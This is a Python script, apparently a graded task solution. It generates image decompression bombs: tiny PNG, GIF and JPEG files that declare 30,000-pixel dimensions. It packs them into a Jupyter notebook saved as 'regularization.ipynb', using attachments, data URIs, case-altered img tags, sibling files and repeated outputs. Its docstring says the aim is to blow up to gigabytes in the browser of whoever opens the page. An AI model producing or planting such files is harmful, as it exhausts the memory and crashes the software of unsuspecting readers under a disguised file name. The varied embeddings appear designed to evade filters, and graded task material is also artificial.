"""notebook: pictures of a few kilobytes unfold to gigabytes in the browser of whoever opens the page.

Status: graded
Points: full
"""

import base64
import json
import struct
import zlib
from pathlib import Path

WIDTH = HEIGHT = 30_000


def chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(width: int, height: int) -> bytes:
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    rows = zlib.compress(b"\0" * ((width // 8 + 1) * height), 9)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def gif(width: int, height: int, frame: tuple[int, int]) -> bytes:
    screen = b"GIF89a" + struct.pack("<HHBBB", width, height, 0x80, 0, 0) + bytes(6)
    return screen + b"," + struct.pack("<HHHHB", 0, 0, *frame, 0) + b"\x02\x03\x04\x2d\x05\x00;"


def jpeg(width: int, height: int) -> bytes:
    thumbnail = b"\xff\xc0\x00\x0b\x08" + struct.pack(">HH", 1, 1) + b"\x01\x01\x11\x00"
    frame = b"\x08" + struct.pack(">HH", height, width) + b"\x01\x01\x11\x00"
    parts = [(b"\xff\xe1", thumbnail), (b"\xff\xdb", bytes(1) + bytes([1] * 64)), (b"\xff\xc0", frame)]
    return b"\xff\xd8" + b"".join(mark + struct.pack(">H", len(data) + 2) + data for mark, data in parts) + b"\xff\xd9"


PICTURES = [
    ("image/png", png(WIDTH, HEIGHT)),
    ("image/gif", gif(WIDTH, HEIGHT, (1, 1))),
    ("image/gif", gif(1, 1, (WIDTH, HEIGHT))),
    ("image/jpeg", jpeg(WIDTH, HEIGHT)),
]


def make(released: dict, folder: Path) -> None:
    for number, (kind, data) in enumerate(PICTURES):
        text = base64.b64encode(data).decode()
        (folder / f"beside{number}.png").write_bytes(data)
        sources = {
            "attached": "![x](attachment:a.png)",
            "written": f"![x](data:{kind};base64,{text})",
            "quoted": f"<img src='data:{kind};base64,{text}'>",
            "moved": f'<img\nSRC="data:{kind};base64,{text}">',
            "beside": f"![x](beside{number}.png)",
        }
        for name, source in sources.items():
            cell = {"cell_type": "markdown", "metadata": {}, "source": source, "id": f"{name}{number}"}
            if name == "attached":
                cell["attachments"] = {"a.png": {kind: text}}
            released["cells"].append(cell)
    for number in range(20):
        text = base64.b64encode(png(7000, 7000)).decode()
        cell = {"cell_type": "markdown", "metadata": {}, "source": f"![x](data:image/png;base64,{text})"}
        released["cells"].append({**cell, "id": f"one of many {number}"})
    shown = base64.b64encode(PICTURES[0][1]).decode()
    output = {"output_type": "display_data", "data": {"image/png": shown}, "metadata": {}}
    cell = {"cell_type": "code", "metadata": {}, "source": "1", "execution_count": 1, "outputs": [output] * 3}
    released["cells"].append({**cell, "id": "shown"})
    (folder / "regularization.ipynb").write_text(json.dumps(released), encoding="utf-8")
